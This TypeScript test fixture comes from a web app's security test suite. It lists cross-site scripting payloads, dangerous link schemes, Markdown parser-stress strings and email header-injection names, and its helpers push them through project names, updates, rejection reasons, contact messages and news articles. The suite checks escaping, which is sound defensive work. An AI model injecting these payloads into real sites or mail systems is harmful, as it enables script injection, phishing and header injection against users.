import { renderMarkdown } from "#server/platform/mail/markdown.ts";
import type { TestApp, TestUser } from "../app/test-app.ts";
import { makeOpenProject, projectBody } from "./projects.ts";

/** What is typed in the hope that some screen or mail runs it. */
export const scripts = [
  "</script><script>alert(1)</script>",
  "\u2028alert(1)//\u2029",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{display:none}</style>",
  "{{constructor.constructor('alert(1)')()}}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<form action=https://evil.example><input name=password>",
  // Last, because it swallows what follows it in one text.
  "<!--<script>",
];

const links = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "\tjavascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example",
  "https:evil.example\\@ajose.ng",
];

/** Signs that make a careless Markdown parser go over the rest of the text again for each of them. */
export const hostilePieces = [
  ...[
    ">",
    "> ",
    ">>>>>>a\n\n",
    "- ",
    "> - ",
    "- a\n",
    "- - - - - - a\n",
    "1. ",
    "1. a\n",
    "=\n",
    "a\n=\n",
  ],
  ...["*a ", "**a*", "***a", "*_a ", "_a_", "a_b_", "~~a~ ", "~~a", "a**", "*a**b***c"],
  ...["[", "![", "[]", "[a](", "[a](<", '[a](b "', "[a][", "[a]: b\n", "](b)"],
  ...["`", "`a", "``a`", "```\n", "<", "<a ", "<!-- -", "<![CDATA[", "\\", "&", "&#"],
  ...[
    "|a",
    "|\n",
    "|-|\n",
    "|a|b\n|-|-\n\n",
    "a@b.",
    "a@b.c ",
    "a@",
    "http://a.",
    "www.a.b/",
    "www.a ",
    "!",
  ],
  ...["# a\na\n=\n> ", "&amp\n> >\n", "#\na\n=\n> - "],
  ...["\t", "a    ", "  \n", "* * ", "# ", " #", "ọ", "\u200b"],
];

/** Everything that Markdown can hold that no page may obey. */
export const markdown = [
  ...scripts,
  ...links.map((link, index) => `[link ${index}](${link})`),
  "![x](x onerror=alert(1))",
  "![x](https://evil.example/track.png)",
  '[a](https://ajose.ng "onmouseover=alert(1) x=")',
  "<https://evil.example/<script>alert(1)</script>>",
  "```html\n<script>alert(1)</script>\n```",
].join("\n\n");

/** One line of text holds no line separators; everything else may stand in a name. */
export const names = [
  // Letters that not every font has, too.
  "Ẹ̀kọ́ ɗan ƙasa ƴa </title><script>alert(1)</script>",
  ...scripts.filter((text) => !/[\u2028\u2029]/.test(text)),
];

/** As few texts as hold all of these, one after the other, where each may be so long. */
export function joinTexts(texts: readonly string[], maxLength: number): string[] {
  const joined: string[] = [];
  for (const text of texts) {
    const longer = `${joined.at(-1)} ${text}`;
    if (joined.length === 0 || longer.length > maxLength) joined.push(text);
    else joined[joined.length - 1] = longer;
  }
  return joined;
}

/** Names that mean something to a mail's head. */
export const mailNames = [
  "Ada, evil@evil.example",
  "Ada <evil@evil.example>",
  '"Ada" evil@evil.example; b@evil.example',
  "=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=",
  "Bcc: evil@evil.example",
  "%0d%0aBcc: evil@evil.example",
];

/** An article of these words, with such an image, links and categories; nothing of it was looked at. */
export async function putArticle(
  app: TestApp,
  id: string,
  { title, image }: { title: string; image: string },
): Promise<void> {
  await app.db`
    insert into app.news_article (id, title, content, content_html, image, links, categories)
    values (${id}, ${title}, ${markdown}, ${renderMarkdown(markdown, "content")}, ${image}, ${[...links, image]},
      ${["<script>alert(1)</script>"]})`;
}

/**
 * Has this text go wherever one person's words go to others by notice and mail: as the names of people
 * and projects, as an update, as reasons, and in a message to the office.
 */
export async function spread(app: TestApp, text: string): Promise<void> {
  const people = await Promise.all([
    app.makePerson("user"),
    app.makePerson("investor"),
    app.makePerson("admin"),
  ]);
  const [creator, backer, admin] = people;
  const ids = people.map(({ id }) => id);
  await app.db`
    update app.person set first_name = ${text.slice(0, 60)}, last_name = ${text.slice(0, 60)}
    where id = any(${ids})`;
  await app.fund(backer.id, 5_000_00n);
  const reason = `${text}\n\n${markdown}`.slice(0, 1_000);
  const send = async (
    as: TestUser,
    method: "GET" | "POST" | "PUT",
    path: string,
    body?: object,
  ) => {
    const reply = await app.call(method, path, { as, body });
    if (reply.status >= 300) throw new Error(`${path} answered ${JSON.stringify(reply.body)}`);
    return reply.body.data;
  };

  const refused = await send(creator, "POST", "/api/projects", projectBody({ name: text }));
  const decision = { approvalStatus: "REJECTED", reason };
  await send(admin, "PUT", `/api/admin/projects/${refused.id}/approval`, decision);
  const { id } = await makeOpenProject(app, creator, admin, { name: text });
  await send(backer, "POST", "/api/investments", { projectId: id, amount: 1000 });
  await send(creator, "POST", `/api/projects/${id}/updates`, { title: text, body: markdown });
  await app.runJobs();
  await send(creator, "POST", `/api/projects/${id}/cancel`, { reason });
  const message = { name: text, email: backer.email, subject: text, message: markdown };
  await send(backer, "POST", "/api/contact", message);
  const inbox: { id: string; email: string }[] = await send(admin, "GET", "/api/admin/contact");
  const asked = inbox.find(({ email }) => email === backer.email);
  const reply = { text: reason, sawAnswered: false, sawReplies: 0 };
  await send(admin, "POST", `/api/admin/contact/${asked?.id}/replies`, reply);
  for (let turn = 0; turn < 4; turn++) {
    await app.runRecurring();
    await app.runJobs();
  }
}
